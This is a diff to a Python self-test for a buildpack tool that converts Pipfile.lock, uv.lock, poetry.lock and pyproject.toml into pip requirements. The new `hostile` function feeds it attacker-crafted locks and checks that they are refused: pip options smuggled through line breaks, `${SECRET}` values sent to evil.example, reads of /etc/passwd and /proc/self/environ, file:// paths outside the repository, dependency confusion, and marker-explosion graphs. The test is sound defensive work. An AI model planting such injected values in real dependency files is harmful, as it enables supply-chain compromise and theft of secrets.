@@ -476,6 +476,292 @@ sdist = { hash = "%(h3)s" }
 '''
 
 
+def uv_app(packages, root_deps):
+    """A uv.lock whose project depends on `root_deps` (TOML inline tables)."""
+    return ('version = 1\n\n[[package]]\nname = "app"\nversion = "0.1.0"\n'
+            'source = { virtual = "." }\ndependencies = [%s]\n%s' % (root_deps, packages))
+
+
+def uv_package(name, source, more=""):
+    return '\n[[package]]\nname = "%s"\nversion = "1.0"\nsource = %s\n%s\n' % (name, source, more)
+
+
+def hostile(check, reqs, refusal, app, tmp):
+    """Locks as an attacker would push them: every value that would reach pip as an option,
+    a line of its own or a `${VAR}` is refused, naming the package and the file; file: URLs
+    outside the repository are refused as paths are; graphs that double their markers at each
+    layer end at once; the scripts run isolated from the app's modules."""
+    import subprocess
+    import sys
+    import time
+
+    def refused_with(files, *expected, what):
+        msg = refusal(files)
+        check(msg and all(e in msg for e in expected), what, msg or "(not refused)")
+        check(not any(c in msg for c in "\n\r\x1b\x07"), what + ": the message is one clean "
+              "line", repr(msg))
+
+    good = {"version": "==1.0", "hashes": [H1]}
+
+    # Pipfile.lock: a name that is an option (pip printed the environment: config vars).
+    refused_with({"Pipfile.lock": {"default": {"-r /proc/self/environ": {"version": ""}}}},
+                 "Pipfile.lock: the package -r /proc/self/environ has a name that is not a "
+                 "PEP 508 name", what="a name that is pip's -r option")
+    refused_with({"Pipfile.lock": {"default": {"\x1b[2J\x1b]0;owned\x07x": {"path": "/etc"}}}},
+                 "Pipfile.lock: the package \\x1b[2J", "not a PEP 508 name",
+                 what="a name with terminal escapes, quoted escaped")
+    # ... a marker, a version, a hash or extras with a line break: options of their own.
+    for field, value, said in [
+            ("markers", "python_version >= '3'\n--index-url https://evil.example/simple",
+             "flask's environment marker"),
+            ("markers", "python_version >= '3'\r--trusted-host evil.example",
+             "flask's environment marker"),
+            ("markers", "python_version >= '3'\u2028--index-url https://evil.example/simple",
+             "flask's environment marker"),
+            ("markers", "python_version >= '3' --index-url https://evil.example/simple",
+             "flask's environment marker"),
+            ("markers", "python_version >= '3' --hash=sha256:" + "0" * 64,
+             "flask's environment marker"),
+            ("markers", "python_version >= '3' \\", "flask's environment marker"),
+            ("markers", "python_version >= '3' # \\", "flask's environment marker"),
+            ("markers", "os_name == 'posix' @ https://evil.example/x.whl",
+             "is not a PEP 508 marker"),
+            ("version", "==1.0\n-c /etc/passwd", "flask's version"),
+            ("version", "==1.0 --hash=sha256:00", "flask's version"),
+            ("version", "", None),
+            ("version", ">=1.0", "flask's version >=1.0 is not a PEP 440 version"),
+            ("hashes", ["sha256:aa\n--find-links https://evil.example/"], "flask's hash"),
+            ("hashes", ["sha256:AA ; x"], "flask's hash"),
+            ("extras", ["standard]\n-r /etc/passwd"], "extra"),
+            ("extras", ["a,b"], "extra")]:
+        spec = dict(good, **{field: value})
+        if said is None:
+            heads, _, _ = reqs({"Pipfile.lock": {"default": {"flask": spec}}})
+            check(heads == ["flask"], "Pipfile.lock: an empty version is no pin", repr(heads))
+            continue
+        refused_with({"Pipfile.lock": {"default": {"flask": spec}}}, "Pipfile.lock: ", said,
+                     what="Pipfile.lock: %s %r refused" % (field, value))
+    refused_with({"Pipfile.lock": {"default": {"x": {"path": "d\n--index-url https://evil/"},
+                                               "y": good}}},
+                 "Pipfile.lock: x's path", "line break", what="a path with a line break")
+    refused_with({"Pipfile.lock": {"default": {"x": {"path": "-r/etc/passwd"}}}},
+                 "starts with -", what="a path that is an option")
+    refused_with({"Pipfile.lock": {"default": {"mylib": {
+        "git": "https://github.com/example/mylib.git", "ref": "main\n-r /etc/passwd"}}}},
+        "Pipfile.lock: mylib's git reference", what="a git ref with a line break")
+    refused_with({"Pipfile.lock": {"default": {"mylib": {
+        "git": "https://github.com/example/mylib.git", "ref": "main --config-settings=x"}}}},
+        "mylib's git reference", what="a git ref with an option")
+    refused_with({"Pipfile.lock": {"default": {"mylib": {
+        "git": "https://github.com/example/mylib.git", "ref": "0" * 40,
+        "subdirectory": "a\n--index-url https://evil/"}}}},
+        "mylib's subdirectory", what="a subdirectory with a line break")
+    refused_with({"Pipfile.lock": {
+        "_meta": {"sources": [{"name": "evil", "url": "https://x/simple\n-r /etc/passwd"}]},
+        "default": {"flask": dict(good, index="evil")}}},
+        "Pipfile.lock: flask's index URL", what="an index URL with a line break")
+    refused_with({"Pipfile.lock": {"default": {"x": {"file": "https://evil/x.whl\n-r /x"}}}},
+                 "Pipfile.lock: x's", "line break", what="a URL with a line break")
+
+    # ${VAR}: pip would send a config var to the lock's host.
+    refused_with({"uv.lock": uv_app(uv_package(
+        "x", '{ url = "https://evil.example/${DATABASE_URL}/x-1.0-py3-none-any.whl" }',
+        'wheels = [{ url = "https://evil.example/x.whl", hash = "%s" }]' % H1),
+        '{ name = "x" }')},
+                 "uv.lock: x's URL", "contains ${", what="uv: a URL with ${DATABASE_URL}")
+    refused_with({"Pipfile.lock": {
+        "_meta": {"sources": [{"name": "p", "url": "https://${PIP_USER}:${SECRET}@evil/simple"}]},
+        "default": {"flask": dict(good, index="p")}}},
+        "flask's index URL", "contains ${", what="Pipfile.lock: an index with ${SECRET}")
+    refused_with({"Pipfile.lock": {"default": {"flask": dict(
+        good, markers="platform_release == '${SECRET}'")}}},
+        "flask's environment marker", "contains ${", what="a marker with ${SECRET}")
+    _, _, text = reqs({"uv.lock": uv_app(uv_package(
+        "x", '{ url = "https://files.example.com/$HOME/x-1.0-py3-none-any.whl" }',
+        'wheels = [{ url = "https://files.example.com/x.whl", hash = "%s" }]' % H1),
+        '{ name = "x" }')})
+    check("x @ https://files.example.com/%24HOME/x-1.0-py3-none-any.whl" in text
+          and "$" not in text, "a $ in a URL is percent-encoded", text)
+
+    # uv: a registry or a git URL with a line break (urlsplit would drop it silently).
+    refused_with({"uv.lock": uv_app(uv_package(
+        "flask", '{ registry = "https://pypi.org/simple\\n--trusted-host evil.example\\n'
+        '-r /etc/passwd" }', 'sdist = { url = "https://x/f.tar.gz", hash = "%s" }' % H1),
+        '{ name = "flask" }')}, "uv.lock: flask's index URL", "line break",
+        what="uv: a registry with a line break")
+    refused_with({"uv.lock": uv_app(uv_package(
+        "mylib", '{ git = "https://github.com/example/mylib\\n--index-url=https://evil/#%s" }'
+        % ("0" * 40)), '{ name = "mylib" }')}, "uv.lock: mylib's git URL", "line break",
+        what="uv: a git URL with a line break")
+    refused_with({"uv.lock": uv_app(uv_package(
+        "flask", '{ registry = "https://pypi.org/simple" }',
+        'version = "1.0\\n-r /etc/passwd"'), '{ name = "flask" }').replace(
+            'version = "1.0"\nsource = { registry', 'source = { registry')},
+        "uv.lock: flask's version", what="uv: a version with a line break")
+    refused_with({"uv.lock": uv_app(uv_package(
+        "flask", '{ registry = "https://pypi.org/simple" }',
+        'sdist = { url = "https://x/f.tar.gz", hash = "sha256:aa\\n-r /etc/passwd" }'),
+        '{ name = "flask" }')}, "uv.lock: flask's hash", what="uv: a hash with a line break")
+    refused_with({"uv.lock": uv_app(
+        uv_package("flask", '{ registry = "https://pypi.org/simple" }'),
+        '{ name = "flask", marker = "os_name == \'posix\'\\n--index-url https://evil/" }')},
+        "uv.lock: flask's environment marker", what="uv: an edge marker with a line break")
+
+    # poetry.lock: Poetry 1's platform and a Poetry 2 marker.
+    refused_with({"poetry.lock": '[[package]]\nname = "flask"\nversion = "3.0.0"\n'
+                                 'python-versions = ">=3.8"\nfiles = [{file = "f.whl", hash = '
+                                 '"%s"}]\n[metadata]\nlock-version = "2.0"\n' % H1,
+                  "pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.8"\nflask = '
+                                    '{version = "*", platform = "linux\\"\\n--index-url '
+                                    'https://evil.example/simple\\n#"}\n'},
+                 "pyproject.toml: flask's platform",
+                 what="Poetry 1: a platform with a line break")
+    refused_with({"poetry.lock": POETRY2_LOCK.replace(
+        'markers = "sys_platform == \\"win32\\""',
+        'markers = "sys_platform == \\"win32\\"\\n--index-url https://evil/"') % {"more": ""},
+        "pyproject.toml": "[project]\nname = 'x'\n"},
+        "poetry.lock: pywin32's environment marker", what="Poetry 2: a marker with a line break")
+    refused_with({"poetry.lock": POETRY2_LOCK.replace(
+        'url = "https://files.example.com/blinker-1.9.0-py3-none-any.whl"',
+        'url = "file:///etc/blinker-1.9.0-py3-none-any.whl"') % {"more": ""},
+        "pyproject.toml": "[project]\nname = 'x'\n"},
+        "poetry.lock: blinker comes from /etc/blinker-1.9.0-py3-none-any.whl, outside the app's "
+        "repository", what="Poetry: a url source with file:// outside the repository")
+
+    # pyproject.toml's dependencies: options and lines are not dependencies.
+    for dep, said in [("--index-url https://evil.example/simple", "starts with -"),
+                      ("-e git+https://evil.example/x.git#egg=x", "starts with -"),
+                      ("-r /proc/self/environ", "starts with -"),
+                      ("flask\n--index-url https://evil.example/simple", "line break"),
+                      ("flask -r /proc/self/environ", "not a PEP 508 requirement"),
+                      ("flask \\", "not a PEP 508 requirement"),
+                      ("x @ https://evil.example/${DATABASE_URL}/x.whl", "contains ${"),
+                      ("x @ file:///etc/x.whl", "outside the app's repository")]:
+        refused_with({"pyproject.toml": "[project]\ndependencies = %s\n" % json.dumps([dep])},
+                     "pyproject.toml: ", said, what="pyproject.toml dependency %r" % dep)
+
+    # file: URLs obey the rule of paths: outside the repository is refused.
+    refused_with({"uv.lock": uv_app(uv_package("x", '{ url = "file:///etc/x.whl" }'),
+                                    '{ name = "x" }')},
+                 "uv.lock: x comes from /etc/x.whl, outside the app's repository",
+                 what="uv: a file:// URL outside the repository")
+    refused_with({"uv.lock": uv_app(uv_package(
+        "y", '{ git = "file:///srv/other/repo.git#%s" }' % ("0" * 40)), '{ name = "y" }')},
+        "uv.lock: y comes from /srv/other/repo.git, outside the app's repository",
+        what="uv: a git+file:// URL outside the repository")
+    refused_with({"Pipfile.lock": {"default": {"y": {"git": "file:///srv/other/repo.git",
+                                                     "ref": "0" * 40}}}},
+                 "outside the app's repository", what="Pipfile.lock: git+file outside")
+    heads, _, text = reqs({"uv.lock": uv_app(uv_package(
+        "x", '{ url = "file:dist/x-1.0-py3-none-any.whl" }',
+        'wheels = [{ url = "file://x", hash = "%s" }]' % H1), '{ name = "x" }'),
+        "dist/x-1.0-py3-none-any.whl": "zip"})
+    check(len(heads) == 1 and "\nx @ file://APP/dist/x-1.0-py3-none-any.whl \\\n" in text
+          and "# hashes: on" in text,
+          "uv: a file: URL inside the repository is installed, with its hash", text)
+
+    # A private index's package must have hashes (pip also looks on PyPI: dependency
+    # confusion); with them, the index is the hashed run's only.
+    refused_with({"Pipfile.lock": {
+        "_meta": {"sources": [{"name": "corp", "url": "https://pypi.corp.example/simple"}]},
+        "default": {"corp-internal": {"version": "==1.4.0", "index": "corp"}}}},
+        "Pipfile.lock: corp-internal comes from the index https://pypi.corp.example/simple, but "
+        "corp-internal has no hash in the lock", "PyPI",
+        what="an unhashed package from a private index is refused")
+    heads, hashes, text = reqs({"Pipfile.lock": {
+        "_meta": {"sources": [{"name": "corp", "url": "https://pypi.corp.example/simple"}]},
+        "default": {"corp-internal": {"version": "==1.4.0", "index": "corp", "hashes": [H1]},
+                    "requests": {"version": "==2.32.3", "hashes": [H2]},
+                    "mylib": {"git": "https://github.com/corp/mylib.git", "ref": "0" * 40}}}})
+    first, _, second = text.partition("\n# without hashes:\n")
+    check(hashes.startswith("# hashes: split: 2 with hashes; 1 without: mylib comes from git")
+          and "--extra-index-url https://pypi.corp.example/simple" in first
+          and "--hash=%s" % H1 in first and "--hash=%s" % H2 in first
+          and second.strip() == "mylib @ git+https://github.com/corp/mylib.git@" + "0" * 40,
+          "one git package leaves the others hashed, the index with them", text)
+
+    # Markers that double at each layer: capped, so it ends at once, with a note.
+    layers = 14
+    pkgs = "".join(uv_package("p%d" % i, '{ registry = "https://pypi.org/simple" }',
+                              'sdist = { url = "https://x/p.tar.gz", hash = "%s" }\n' % H1 +
+                              ('dependencies = [{ name = "p%d", marker = "os_name == \'a%d\'" }, '
+                               '{ name = "p%d", marker = "os_name == \'b%d\'" }]'
+                               % (i + 1, i, i + 1, i) if i + 1 < layers else ""))
+                   for i in range(layers))
+    started = time.monotonic()
+    heads, hashes, text = reqs({"uv.lock": uv_app(pkgs, '{ name = "p0" }')})
+    took = time.monotonic() - started
+    check(took < 10 and len(heads) == layers and
+          "# note: p7 is reached by more than 64 combinations of markers: installed without one"
+          in text and "p7==1.0" in heads
+          and "p8==1.0 ; os_name == 'a7' or os_name == 'b7'" in heads,
+          "markers doubling over %d layers: capped (%.1f s)" % (layers, took), text[:2000])
+    # ... and a graph whose every package depends on every later one, each edge with its own
+    # marker, is refused at once for the work it would take (run apart, so that a regression
+    # fails this check rather than hanging the self-test).
+    n = 80
+    pkgs = "".join(uv_package("p%d" % i, '{ registry = "https://pypi.org/simple" }',
+                              'dependencies = [%s]' % ", ".join(
+                                  '{ name = "p%d", marker = "os_name == \'e%d_%d\'" }' % (j, i, j)
+                                  for j in range(i + 1, n)) if i + 1 < n else "")
+                   for i in range(n))
+    d = app({"uv.lock": uv_app(pkgs, '{ name = "p0" }')})
+    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "bin", "requirements")
+    started = time.monotonic()
+    try:
+        out = subprocess.run([sys.executable, "-I", script, d], capture_output=True, text=True,
+                             timeout=60)
+        said = out.stderr
+    except subprocess.TimeoutExpired:
+        said = "(still running after 60 s)"
+    took = time.monotonic() - started
+    check("uv.lock: the markers of the dependency graph are too tangled to follow" in said
+          and took < 30, "a dense graph of markers refused in bounded time (%.1f s)" % took,
+          said)
+    pcyc = ('[[package]]\nname = "a"\nversion = "1"\npython-versions = "*"\n'
+            '[package.dependencies]\nb = {version="*", markers="os_name == \'x\'"}\n'
+            '[[package]]\nname = "b"\nversion = "1"\npython-versions = "*"\n'
+            '[package.dependencies]\na = "*"\nb = "*"\n[metadata]\nlock-version = "1.1"\n'
+            '[metadata.files]\na = []\nb = []\n')
+    heads, _, _ = reqs({"poetry.lock": pcyc, "pyproject.toml": '[tool.poetry.dependencies]\n'
+                                                               'python = "^3.8"\na = "*"\n'})
+    check(heads == ["a==1", "b==1 ; os_name == 'x'"], "poetry: a cycle ends", repr(heads))
+
+    # pip's output read in bounded time: `^\s+` over 40,000 blank lines took 20 s (it was
+    # quadratic), and only the end of a long log is read, each line cut.
+    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+    import pip_failure
+    log = os.path.join(tmp, "pip.log")
+    with open(log, "w") as f:
+        f.write("Collecting x\n" + " \n" * 30000 + "\t\t\n" * 10000 +
+                "Failed building wheel for x\nDO NOT MATCH THE HASHES\n")
+    started = time.monotonic()
+    with open(log, "rb") as f:
+        said = pip_failure.explain(pip_failure.tail(f), "uv.lock", "3.11.7")
+    took = time.monotonic() - started
+    check(took < 5 and said[0].startswith("pip refused"),
+          "pip_failure reads blank lines in linear time (%.1f s)" % took, repr(said[:1]))
+    with open(log, "w") as f:
+        f.write(("x" * 9999 + "\n") * 300 + "ERROR: the last line\n")
+    with open(log, "rb") as f:
+        read = pip_failure.tail(f)
+    check(len(read) <= pip_failure.MAX_LOG and read.endswith("ERROR: the last line\n")
+          and max(map(len, read.split("\n"))) <= pip_failure.MAX_LINE,
+          "pip_failure reads the last MB of the log, lines cut", "%d chars" % len(read))
+
+    # The buildpack's own Python is isolated from the app's modules: a json.py or re.py at
+    # the app's root (the working directory of bin/release) changes nothing.
+    bin_dir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "bin")
+    d = app({"requirements.txt": "gunicorn\n", "app.py": "app = Flask(__name__)\n",
+             "json.py": "def dumps(s):\n    return '\"x\"\\nconfig_vars:\\n  A: 1'\n",
+             "re.py": "raise SystemExit('re.py of the app')\n"})
+    out = subprocess.run(["bash", os.path.join(bin_dir, "release"), d], cwd=d,
+                         capture_output=True, text=True, env=dict(os.environ, PYTHONPATH=d))
+    check(out.stdout == '---\ndefault_process_types:\n  web: "gunicorn --bind 0.0.0.0:$PORT '
+          'app:app"\n', "bin/release ignores the app's json.py and re.py",
+          out.stdout + out.stderr)
+
+
 def run(requirements, refused):
     passed, failed = 0, 0
 
@@ -548,9 +834,18 @@ def run(requirements, refused):
               "01234567 ; python_version >= '3.9'" in heads, "Pipfile.lock git", "\n".join(heads))
         check("locallib @ file://APP/libs/locallib" in text.replace(" \\\n", " "),
               "Pipfile.lock path", text)
-        check(hashes.startswith("# hashes: off: locallib is the directory libs/locallib")
-              and "mylib comes from git" in hashes and "--hash" not in text,
-              "Pipfile.lock with git: hashes off, saying why", hashes)
+        # ... which do not turn hash checking off for the others: they come last, after
+        # `# without hashes:`, for pip's second run, and the extra index is the first run's.
+        check(hashes.startswith("# hashes: split: 4 with hashes; 2 without: locallib is the "
+                                "directory libs/locallib") and "mylib comes from git" in hashes,
+              "Pipfile.lock with git: hashes split, saying why", hashes)
+        first, _, second = text.partition("\n# without hashes:\n")
+        check("--hash=%s" % H3 in first and "flask==3.1.3" in first and "--hash" not in second
+              and "mylib @ git+" in second and "locallib @ file://" in second
+              and "mylib" not in first.replace("mylib comes from git", "")
+              and "--extra-index-url https://pkgs.example.com/simple" in first
+              and "--extra-index-url" not in second,
+              "Pipfile.lock with git: hashed first (with the index), unhashed after", text)
         check(re.search(r"^# local libs/locallib sha256:[0-9a-f]{64}$", text, re.M) is not None,
               "a local directory's content is in the output", text)
         lock["default"]["outside"] = {"path": "../elsewhere"}
@@ -576,8 +871,9 @@ def run(requirements, refused):
         check("locallib @ file://APP/libs/locallib" in text and
               "wheelfile @ file://APP/dist/wheelfile-1.0-py3-none-any.whl" in text,
               "poetry directory and file", text)
-        check(hashes.startswith("# hashes: off: locallib is the directory"),
-              "poetry with a directory: hashes off", hashes)
+        check(hashes.startswith("# hashes: split: 5 with hashes; 2 without: locallib is the "
+                                "directory") and text.count("# without hashes:") == 1,
+              "poetry with a directory: hashes split", hashes)
         msg = refusal({"poetry.lock": POETRY2_LOCK % {"more": POETRY2_SOURCES},
                        "pyproject.toml": "[project]\nname = 'x'\n",
                        "dist/wheelfile-1.0-py3-none-any.whl": "zip"})
@@ -648,8 +944,18 @@ def run(requirements, refused):
         check("member @ file://APP/packages/member" in text and "internal==1.0" in heads and
               "--extra-index-url https://pkgs.example.com/simple" in text,
               "uv workspace member and its other index", text)
-        check(hashes.startswith("# hashes: off: member is the directory packages/member"),
-              "uv with git: hashes off", hashes)
+        check(hashes.startswith("# hashes: split: 9 with hashes; 2 without: member is the "
+                                "directory packages/member"), "uv with git: hashes split", hashes)
+        first, _, second = text.partition("\n# without hashes:\n")
+        check("internal==1.0" in first and "--extra-index-url" in first and "member @" in second
+              and "mylib @" in second and "--hash" not in second and "--" not in second,
+              "uv: the private index's package hashed, the git and directory ones after", text)
+        # Only unhashable packages: one run, without hashes, and no second part.
+        lock = {"default": {"mylib": {"git": "https://github.com/example/mylib.git",
+                                      "ref": "0123456789abcdef0123456789abcdef01234567"}}}
+        heads, hashes, text = reqs({"Pipfile.lock": lock})
+        check(hashes.startswith("# hashes: off: mylib comes from git") and
+              "# without hashes:" not in text, "only unhashable: hashes off", text)
 
         # Several tools' files: refused, naming them, as Heroku does.
         msg = refusal({"requirements.txt": "flask\n", "uv.lock": base})
@@ -673,6 +979,8 @@ def run(requirements, refused):
         d = app({"pyproject.toml": '[project]\ndependencies = ["gunicorn (>=21)"]\n'})
         check(requirements(d) == "# from pyproject.toml\ngunicorn (>=21)\n",
               "pyproject.toml's dependencies as they are")
+
+        hostile(check, reqs, refusal, app, tmp)
     finally:
         shutil.rmtree(tmp)
     if PipRequirement is None:
